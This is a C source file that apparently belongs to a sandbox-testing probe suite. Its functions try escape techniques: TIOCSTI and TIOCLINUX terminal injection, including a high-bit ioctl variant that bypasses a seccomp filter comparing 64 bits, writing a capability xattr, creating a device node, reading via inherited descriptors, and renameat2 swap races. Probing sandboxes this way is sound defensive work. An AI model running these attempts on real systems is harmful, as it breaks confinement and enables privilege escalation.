/* Attacks on files, devices, sockets and terminals. */
#define _GNU_SOURCE
#include <asm/termbits.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>

#include "probe.h"

#define HIGH_BIT (1ul << 32) /* the kernel looks at 32 bits of a request; a filter that compares 64 is passed */

static long open_to_write(char **w) { return answer(open(w[0], O_WRONLY | O_CLOEXEC)); }
static long open_to_read(char **w) { return answer(open(w[0], O_RDONLY | O_CLOEXEC | O_NONBLOCK)); }
static long create(char **w) { return answer(open(w[0], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666)); }
static long hard_link(char **w) { return answer(link(w[0], w[1])); }
static long move(char **w) { return answer(rename(w[0], w[1])); }
static long make_zero_device(char **w) { return answer(mknod(w[0], S_IFCHR | 0666, makedev(1, 5))); }
static long change_mode(char **w) { return answer(chmod(w[0], (mode_t)strtoul(w[1], NULL, 8))); }

static long set_capability_xattr(char **w)
{
    unsigned char value[20] = {1, 0, 0, 2, 0xff, 0xff, 0xff, 0xff};
    return answer(syscall(SYS_setxattr, w[0], "security.capability", value, sizeof(value), 0));
}

/* Prints the first line found there: the data is the proof. */
static long read_line(int fd)
{
    char text[256];
    ssize_t got = pread(fd, text, sizeof(text) - 1, 0);
    if (got < 0)
        return answer(got);
    text[got] = '\0';
    printf("%.*s\n", (int)strcspn(text, "\n"), text);
    return got;
}

static long read_descriptor(char **w) { return read_line(atoi(w[0])); }

static long read_below_descriptor(char **w)
{
    int fd = openat(atoi(w[0]), w[1], O_RDONLY | O_CLOEXEC);
    return fd < 0 ? answer(fd) : read_line(fd);
}

/* `@name` is an abstract address. */
static long connect_to(char **w)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, w[0], sizeof(address.sun_path) - 1);
    if (w[0][0] == '@')
        address.sun_path[0] = '\0';
    int type = w[1] && strcmp(w[1], "datagram") == 0 ? SOCK_DGRAM : SOCK_STREAM;
    int fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
    socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(w[0]));
    return fd < 0 ? answer(fd) : answer(connect(fd, (struct sockaddr *)&address, length));
}

static long inject(unsigned long request, const char *text)
{
    for (; *text; text++)
        if (syscall(SYS_ioctl, STDIN_FILENO, request, text) < 0)
            return answer(-1);
    return 0;
}

static long tiocsti(char **w) { return inject(TIOCSTI, w[0] ? w[0] : "x"); }
static long tiocsti_high(char **w) { return inject(TIOCSTI | HIGH_BIT, w[0] ? w[0] : "x"); }
static long tioclinux(char **w) { (void)w; return answer(syscall(SYS_ioctl, STDIN_FILENO, TIOCLINUX, "\03")); }
static long tioclinux_high(char **w)
{
    (void)w;
    return answer(syscall(SYS_ioctl, STDIN_FILENO, TIOCLINUX | HIGH_BIT, "\03"));
}

static long exchange(char **w) { return answer(syscall(SYS_renameat2, AT_FDCWD, w[0], AT_FDCWD, w[1], 2u)); }

/* On the host: exchanges two names as fast as it can, until standard input ends. */
static long swap_names(char **w)
{
    struct pollfd input = {STDIN_FILENO, POLLIN, 0};
    long turns = 0;
    while (poll(&input, 1, 0) == 0)
        for (int i = 0; i < 100; i++, turns++)
            if (exchange(w) < 0)
                return answer(-1);
    return turns;
}

const struct attempt file_attempts[] = {
    {"open-write", open_to_write}, {"open-read", open_to_read}, {"create", create}, {"link", hard_link},
    {"rename", move}, {"mknod", make_zero_device}, {"chmod", change_mode}, {"setcap", set_capability_xattr},
    {"read-fd", read_descriptor}, {"read-below-fd", read_below_descriptor}, {"connect", connect_to},
    {"tiocsti", tiocsti}, {"tiocsti-high", tiocsti_high}, {"tioclinux", tioclinux},
    {"tioclinux-high", tioclinux_high}, {"exchange", exchange}, {"swap", swap_names}, {NULL, NULL},
};
